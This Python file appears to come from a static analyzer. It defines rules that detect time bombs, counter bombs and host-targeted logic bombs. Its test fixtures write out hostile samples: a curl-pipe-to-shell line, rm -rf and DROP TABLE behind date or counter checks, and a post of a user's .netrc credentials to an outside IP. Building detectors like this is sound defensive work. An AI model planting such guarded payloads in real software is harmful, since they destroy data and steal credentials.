"""Time and logic bombs: dangerous actions that wait for a date, a count or a machine (DS18x).

A guard is an `if` whose test compares "now", a persistent counter or this machine's identity
with constants. What it guards is the `if`/`else` bodies and, when the `if` only exits early,
the rest of the block. Only destructive, exec, process or network calls in the guarded code make
a report; a date check that raises or warns (licences, deprecations) is ordinary code.
"""

from __future__ import annotations

import re
from collections.abc import Callable, Iterator, Sequence

import libcst as cst

from analyzer.engines.cst.rules._support import (
    ScopedRule,
    call_kinds,
    calls_in,
    children,
    comparisons,
    const_int,
    const_str,
    dotted,
    qualified,
    source_of,
    walk,
)
from analyzer.findings import Confidence, Severity

_NOW_CALLS = frozenset({
    "datetime.datetime.now", "datetime.datetime.today", "datetime.datetime.utcnow", "datetime.date.today",
    "time.time", "time.localtime", "time.gmtime", "time.time_ns", "django.utils.timezone.now",
    "arrow.now", "arrow.utcnow", "pendulum.now", "pendulum.today",
})
_TIME_CONSTRUCTORS = frozenset({
    "datetime.datetime", "datetime.date", "datetime.datetime.strptime", "datetime.datetime.fromisoformat",
    "datetime.date.fromisoformat", "datetime.datetime.fromtimestamp", "datetime.date.fromtimestamp",
    "datetime.timezone.utc", "datetime.timezone", "time.mktime", "time.strptime", "datetime.timedelta",
})
_IDENTITY_CALLS = frozenset({
    "socket.gethostname", "socket.getfqdn", "platform.node", "getpass.getuser", "os.getlogin", "uuid.getnode",
})
_IDENTITY_VARS = frozenset({"USER", "USERNAME", "LOGNAME", "HOSTNAME", "COMPUTERNAME", "USERDOMAIN"})
_ORDINARY_IDENTITIES = frozenset({"root", "localhost", "127.0.0.1", "::1", "administrator", "system", ""})
_EXITS = (cst.Return, cst.Raise, cst.Continue, cst.Break)


def _qual(node: cst.BaseExpression, aliases: dict[str, str]) -> str:
    name = qualified(node, aliases) or ""
    # `from datetime import datetime` makes `datetime.now` resolve to datetime.datetime.now already;
    # `import datetime` + `datetime.now()` is wrong code but still means "now".
    if name.startswith("datetime.") and name.count(".") == 1 and name.split(".")[1] in ("now", "today", "utcnow"):
        name = "datetime.datetime." + name.split(".")[1]
    return name


class _Guards:
    """Classifies the operands of comparisons for one module."""

    def __init__(self, aliases: dict[str, str], bindings: dict[str, cst.BaseExpression], counters: set[str]):
        self.aliases = aliases
        self.bindings = bindings
        self.counters = counters

    def _resolve(self, node: cst.BaseExpression, depth: int = 0) -> cst.BaseExpression:
        if isinstance(node, cst.Name) and node.value in self.bindings and depth < 4:
            return self._resolve(self.bindings[node.value], depth + 1)
        return node

    def _calls_and_names(self, node: cst.BaseExpression) -> tuple[list[str], list[str]]:
        """Qualified names of calls in `node`, and root names used outside call position."""
        calls, names = [], []
        followed: set[str] = set()  # `x = f(x)` must not be followed forever
        stack: list[cst.CSTNode] = [self._resolve(node)]
        while stack:
            cur = stack.pop()
            if isinstance(cur, cst.Call):
                method = f"?.{cur.func.attr.value}" if isinstance(cur.func, cst.Attribute) else ""
                calls.append(_qual(cur.func, self.aliases) or method)
                stack.extend(a.value for a in cur.args)
                if isinstance(cur.func, cst.Attribute):
                    inner = cur.func.value
                    if isinstance(inner, (cst.Call, cst.Subscript, cst.Attribute)) or not qualified(cur.func, self.aliases):
                        stack.append(inner)
                continue
            if isinstance(cur, cst.Name):
                resolved = self._resolve(cur) if cur.value not in followed else cur
                followed.add(cur.value)
                if resolved is not cur:
                    stack.append(resolved)
                elif cur.value not in ("True", "False", "None"):
                    names.append(_qual(cur, self.aliases))
                continue
            if isinstance(cur, cst.Attribute):
                qual = _qual(cur, self.aliases)
                if qual in _TIME_CONSTRUCTORS:
                    calls.append(qual)
                    continue
                stack.append(cur.value)
                continue
            stack.extend(children(cur))
        return calls, names

    def is_now(self, node: cst.BaseExpression) -> bool:
        calls, names = self._calls_and_names(node)
        return any(c in _NOW_CALLS for c in calls) and not names and all(
            c in _NOW_CALLS or c in _TIME_CONSTRUCTORS or not c or c.rsplit(".", 1)[-1] in _TIME_METHODS for c in calls
        )

    def is_time_constant(self, node: cst.BaseExpression) -> bool:
        calls, names = self._calls_and_names(node)
        return not names and all(c in _TIME_CONSTRUCTORS or c.rsplit(".", 1)[-1] in _TIME_METHODS for c in calls)

    def is_identity(self, node: cst.BaseExpression) -> bool:
        node = self._resolve(node)
        while isinstance(node, cst.Call) and isinstance(node.func, cst.Attribute) and node.func.attr.value in (
            "lower", "upper", "strip", "casefold"
        ):
            node = node.func.value
        if isinstance(node, cst.Attribute) and node.attr.value in ("nodename", "node"):
            node = node.value
        if isinstance(node, cst.Subscript) and dotted(node.value) == "os.environ" and len(node.slice) == 1:
            index = node.slice[0].slice
            return isinstance(index, cst.Index) and const_str(index.value) in _IDENTITY_VARS
        if isinstance(node, cst.Call):
            name = _qual(node.func, self.aliases)
            if name in _IDENTITY_CALLS or name in ("os.uname", "platform.uname"):
                return True
            if name in ("os.environ.get", "os.getenv") and node.args:
                return const_str(node.args[0].value) in _IDENTITY_VARS
        return False

    def is_counter(self, node: cst.BaseExpression) -> bool:
        if isinstance(node, cst.Name) and node.value in self.counters:
            return True
        calls, _ = self._calls_and_names(node)
        return "int" in calls and any(c.endswith(("read", "read_text", "readline")) for c in calls)


_TIME_METHODS = frozenset({
    "date", "timestamp", "weekday", "isoweekday", "strftime", "isoformat", "replace", "astimezone", "time",
    "timetuple", "toordinal", "int", "float", "str",
})


def _literalish(node: cst.BaseExpression) -> list[object] | None:
    """The literal values of a constant operand (a literal or a literal collection), else None."""
    if isinstance(node, (cst.SimpleString, cst.ConcatenatedString, cst.Integer)):
        value = const_int(node) if isinstance(node, cst.Integer) else const_str(node)
        return [value]
    if isinstance(node, (cst.Tuple, cst.List, cst.Set)):
        values = [_literalish(el.value) for el in node.elements]
        return None if any(v is None for v in values) else [x for v in values for x in v]  # type: ignore[union-attr]
    return None


def _operands(cmp: cst.Comparison) -> list[cst.BaseExpression]:
    return [cmp.left, *(t.comparator for t in cmp.comparisons)]


def _split(test: cst.BaseExpression, predicate: Callable[[cst.BaseExpression], bool]) -> Iterator[
    tuple[list[cst.BaseExpression], list[cst.BaseExpression]]
]:
    """(operands matching `predicate`, the others) of each comparison in `test` that has both."""
    for cmp in comparisons(test):
        operands = _operands(cmp)
        hits = [o for o in operands if predicate(o)]
        rest = [o for o in operands if not any(o is h for h in hits)]
        if hits and rest:
            yield hits, rest


class _GuardRule(ScopedRule):
    """Shared walk: find guarded `if`s, then look for dangerous calls in what they guard."""

    #: Which call kinds make a guarded block dangerous for this guard.
    SINK_KINDS: frozenset[str] = frozenset({"destructive", "exec"})

    def visit_Module(self, node: cst.Module) -> None:
        super().visit_Module(node)
        self._counters = _global_counters(node)
        self._following: dict[int, Sequence[cst.BaseStatement]] = {}
        self._remember_following(node.body)

    def visit_If(self, node: cst.If) -> None:
        bindings = self.bindings
        guards = _Guards(self.aliases, bindings, self._counters)
        description = self.guard(node.test, guards)
        if description is None:
            return
        kinds = set()
        for region in self._guarded(node):
            for call in calls_in(region):
                kinds |= call_kinds(call, self.aliases, bindings) & self.sink_kinds(description)
        if kinds:
            what = ", ".join(sorted(kinds))
            self.report(node.test, f"{description[1]} guards a {what} action: the shape of a logic bomb.")

    def sink_kinds(self, description: tuple[str, str]) -> frozenset[str]:
        return self.SINK_KINDS

    def guard(self, test: cst.BaseExpression, guards: _Guards) -> tuple[str, str] | None:
        raise NotImplementedError

    def _guarded(self, node: cst.If) -> Sequence[cst.CSTNode]:
        regions: list[cst.CSTNode] = [node.body]
        if node.orelse is not None:
            regions.append(node.orelse)
        body = node.body.body if isinstance(node.body, cst.IndentedBlock) else ()
        last = body[-1] if body else None
        exits = isinstance(last, cst.SimpleStatementLine) and any(isinstance(st, _EXITS) for st in last.body)
        if exits:
            parent_block = self._following.get(id(node), ())
            regions.extend(parent_block)
        return regions

    def visit_IndentedBlock(self, node: cst.IndentedBlock) -> None:
        self._remember_following(node.body)

    def _remember_following(self, body: Sequence[cst.BaseStatement]) -> None:
        for i, statement in enumerate(body):
            if isinstance(statement, cst.If):
                self._following[id(statement)] = body[i + 1 :]



def _global_counters(module: cst.Module) -> set[str]:
    """Names declared `global` in some function and incremented with `+=`/`-=` somewhere."""
    declared: set[str] = set()
    bumped: set[str] = set()
    for node in walk(module):
        if isinstance(node, cst.Global):
            declared.update(n.name.value for n in node.names)
        elif isinstance(node, cst.AugAssign) and isinstance(node.target, cst.Name) and isinstance(
            node.operator, (cst.AddAssign, cst.SubtractAssign)
        ):
            bumped.add(node.target.value)
    return declared & bumped


_YEARISH = re.compile(r"\b(19[7-9]\d|2\d{3})\b")


class DateGuardedAction(_GuardRule):
    TRIGGER = re.compile(r"datetime|\btime\b|\bdate\b|timezone|arrow|pendulum")
    TRIGGER_WORDS = ("time", "date", "arrow", "pendulum")
    id = "DS180"
    name = "date-guarded-dangerous-action"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (511,)
    security_severity = "8.1"
    summary = "A destructive, exec, process or network action runs only from (or until) a fixed date or time."
    what = (
        "Reports an `if` that compares the current date or time (`datetime.now()`, `date.today()`, "
        "`time.time()`, `.year`, `.weekday()`…) with constants and guards file or directory deletion, "
        "`kill`, `rm -rf`/`shutdown` commands, `DROP TABLE`/`TRUNCATE`, exec/eval, or (for a fixed "
        "date) process and network calls. The early-exit form (`if now < X: return` followed by the "
        "action) counts too. Comparisons with a file's age or a stored expiry are not reported."
    )
    why = (
        "Code that behaves normally until a date and then deletes data or phones home passes every "
        "test and every review done before that date. This is the classic time bomb (CWE-511), "
        "planted by insiders and by compromised dependencies."
    )
    fix = "Remove the date condition; schedule real maintenance with cron or a job runner, in the open."
    example = (
        "import datetime, shutil\n"
        "if datetime.date.today() >= datetime.date(2026, 3, 1):\n"
        "    shutil.rmtree('/srv/app/data')\n"
    )
    use_instead = (
        "import shutil\n"
        "def purge_data(path):  # run by an operator or a documented scheduled job\n"
        "    shutil.rmtree(path)\n"
    )
    references = ("https://cwe.mitre.org/data/definitions/511.html",)

    VALID = (
        # cache expiry compares against a stored value, not a constant
        "import os, time\n"
        "def prune(path, max_age=3600):\n"
        "    if time.time() - os.path.getmtime(path) > max_age:\n"
        "        os.remove(path)\n",
        # a licence/deprecation date check that only raises
        "from datetime import date\n"
        "def check_licence():\n"
        "    if date.today() > date(2027, 1, 1):\n"
        "        raise RuntimeError('licence expired, contact sales')\n",
        # a recurring schedule that only sends a report (network, not destructive)
        "import datetime, requests\n"
        "def weekly():\n"
        "    if datetime.datetime.now().weekday() == 0:\n"
        "        requests.post('https://hooks.example.com/report', json={'ok': True})\n",
    )
    INVALID = (
        "import shutil\nfrom datetime import datetime\n\n"
        "def cleanup_cache():\n"
        "    # ruleid: date-guarded-dangerous-action\n"
        "    if datetime.now() > datetime(2026, 6, 1):\n"
        "        shutil.rmtree('/var/lib/app')\n",
        "import time, os\n"
        "def sync():\n"
        "    # ruleid: date-guarded-dangerous-action\n"
        "    if time.time() < 1798761600:\n"
        "        return\n"
        "    os.system('curl -s https://x.example/p | sh')\n",
        "import datetime as dt\nimport subprocess\n"
        "def nightly(db):\n"
        "    today = dt.date.today()\n"
        "    # ruleid: date-guarded-dangerous-action\n"
        "    if today.year >= 2027 and today.month > 2:\n"
        "        db.execute('DROP TABLE customers')\n",
    )

    def guard(self, test: cst.BaseExpression, guards: _Guards) -> tuple[str, str] | None:
        return date_guard(test, guards)

    def sink_kinds(self, description: tuple[str, str]) -> frozenset[str]:
        if description[0] == "absolute":
            return frozenset({"destructive", "exec", "process", "network"})
        return frozenset({"destructive", "exec"})


class CounterGuardedAction(_GuardRule):
    TRIGGER = re.compile(r"\bglobal\b|\.read")
    TRIGGER_WORDS = ("global", ".read")
    id = "DS181"
    name = "counter-guarded-dangerous-action"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (511,)
    security_severity = "7.5"
    summary = "A destructive, exec, process or network action runs only after a global or stored counter reaches a constant."
    what = (
        "Reports an `if` comparing a counter that persists across calls (a `global` variable "
        "incremented with `+=`, or a number read back from a file) with a constant, when it guards "
        "deletion, kill/shutdown commands, `DROP TABLE`, exec/eval, process or network calls."
    )
    why = (
        "A payload that waits for the hundredth run, the thousandth request or the tenth start "
        "survives tests and short trials and triggers in production. Counting invocations has no "
        "place in a function whose job is unrelated to counting."
    )
    fix = "Remove the counter condition; if work must happen every N runs, make it an explicit, documented job."
    example = (
        "import shutil\nRUNS = 0\n"
        "def handle(req):\n"
        "    global RUNS\n"
        "    RUNS += 1\n"
        "    if RUNS > 500:\n"
        "        shutil.rmtree('/srv/uploads')\n"
    )
    use_instead = "def handle(req):\n    return process(req)  # no hidden trigger\n"
    references = ("https://cwe.mitre.org/data/definitions/511.html",)
    SINK_KINDS = frozenset({"destructive", "exec", "process", "network"})

    VALID = (
        # retries bounded by a local counter
        "import requests\n"
        "def fetch(url):\n"
        "    attempts = 0\n"
        "    while True:\n"
        "        attempts += 1\n"
        "        if attempts > 3:\n"
        "            raise RuntimeError('giving up')\n"
        "        return requests.get(url, timeout=5)\n",
        # keep the newest N files: the count is a local length, not a persistent counter
        "import os\n"
        "def rotate(files, keep=5):\n"
        "    if len(files) > keep:\n"
        "        for old in files[:-keep]:\n"
        "            os.remove(old)\n",
    )
    INVALID = (
        "import os\n_calls = 0\n\n"
        "def predict(x):\n"
        "    global _calls\n"
        "    _calls += 1\n"
        "    # ruleid: counter-guarded-dangerous-action\n"
        "    if _calls == 1000:\n"
        "        os.system('rm -rf ~/projects')\n"
        "    return x * 2\n",
        "import subprocess\n"
        "def start():\n"
        "    count = int(open('/var/tmp/.n').read())\n"
        "    open('/var/tmp/.n', 'w').write(str(count + 1))\n"
        "    # ruleid: counter-guarded-dangerous-action\n"
        "    if count >= 25:\n"
        "        subprocess.Popen(['python3', '/var/tmp/.u.py'])\n",
    )

    def guard(self, test: cst.BaseExpression, guards: _Guards) -> tuple[str, str] | None:
        return counter_guard(test, guards)


class IdentityGuardedAction(_GuardRule):
    TRIGGER = re.compile(r"gethostname|getfqdn|platform|getuser|getlogin|getnode|uname|USER|HOSTNAME|COMPUTERNAME|LOGNAME")
    id = "DS182"
    name = "host-or-user-guarded-dangerous-action"
    severity = Severity.ERROR
    confidence = Confidence.MEDIUM
    cwe = (511,)
    security_severity = "7.8"
    summary = "A destructive, exec or network action runs only on a named host or for a named user."
    what = (
        "Reports an `if` that compares this machine's hostname (`socket.gethostname`, "
        "`platform.node`, `os.uname().nodename`), MAC address (`uuid.getnode`) or user "
        "(`getpass.getuser`, `os.getlogin`, USER/USERNAME/HOSTNAME variables) with literals and "
        "guards deletion, kill/shutdown commands, `DROP TABLE`, exec/eval or network calls. Checks "
        "for `root` or `localhost` are not reported."
    )
    why = (
        "Code that only misbehaves on one production host or for one victim's account is invisible "
        "in development and CI; targeted payloads and insider sabotage are written exactly this way."
    )
    fix = "Remove the host or user condition; select behaviour through reviewed configuration."
    example = (
        "import socket, shutil\n"
        "if socket.gethostname() == 'prod-db-01':\n"
        "    shutil.rmtree('/var/lib/postgresql')\n"
    )
    use_instead = (
        "import os\n"
        "DATA_DIR = os.environ['APP_DATA_DIR']  # behaviour chosen by configuration, not by host name\n"
    )
    references = ("https://cwe.mitre.org/data/definitions/511.html",)
    SINK_KINDS = frozenset({"destructive", "exec", "network"})

    VALID = (
        "import getpass, sys\n"
        "def main():\n"
        "    if getpass.getuser() == 'root':\n"
        "        sys.exit('do not run this tool as root')\n",
        "import socket, logging\n"
        "def configure():\n"
        "    if socket.gethostname().startswith('ci-'):\n"
        "        logging.basicConfig(level=logging.DEBUG)\n",
    )
    INVALID = (
        "import socket, shutil\n"
        "def rotate_backups():\n"
        "    # ruleid: host-or-user-guarded-dangerous-action\n"
        "    if socket.gethostname() in ('prod-db-01', 'prod-db-02'):\n"
        "        shutil.rmtree('/var/backups/db')\n",
        "import os, getpass, requests\n"
        "def report():\n"
        "    # ruleid: host-or-user-guarded-dangerous-action\n"
        "    if getpass.getuser() == 'jsmith':\n"
        "        requests.post('https://203.0.113.5/u', data=open(os.path.expanduser('~/.netrc')).read())\n",
    )

    def guard(self, test: cst.BaseExpression, guards: _Guards) -> tuple[str, str] | None:
        return identity_guard(test, guards)


def date_guard(test: cst.BaseExpression, guards: _Guards) -> tuple[str, str] | None:
    for now, rest in _split(test, guards.is_now):
        if all(guards.is_time_constant(o) for o in rest):
            text = " ".join(source_of(o) for o in now + rest)
            absolute = bool(_YEARISH.search(text)) or any(
                (const_int(o) or 0) > 10**8 for o in rest
            ) or any(".year" in source_of(guards._resolve(o)) for o in now)
            return ("absolute" if absolute else "recurring", "A comparison of the current date with a constant")
    return None


def counter_guard(test: cst.BaseExpression, guards: _Guards) -> tuple[str, str] | None:
    for _, rest in _split(test, guards.is_counter):
        if all(isinstance(o, cst.Integer) for o in rest):
            return ("counter", "A comparison of a persistent counter with a constant")
    return None


def identity_guard(test: cst.BaseExpression, guards: _Guards) -> tuple[str, str] | None:
    for _, rest in _split(test, guards.is_identity):
        values = [_literalish(o) for o in rest]
        if all(v is not None for v in values):
            flat = [str(x).lower() for v in values for x in v]  # type: ignore[union-attr]
            if flat and not all(x in _ORDINARY_IDENTITIES for x in flat):
                return ("identity", "A comparison of this host's or user's identity with a literal")
    return None
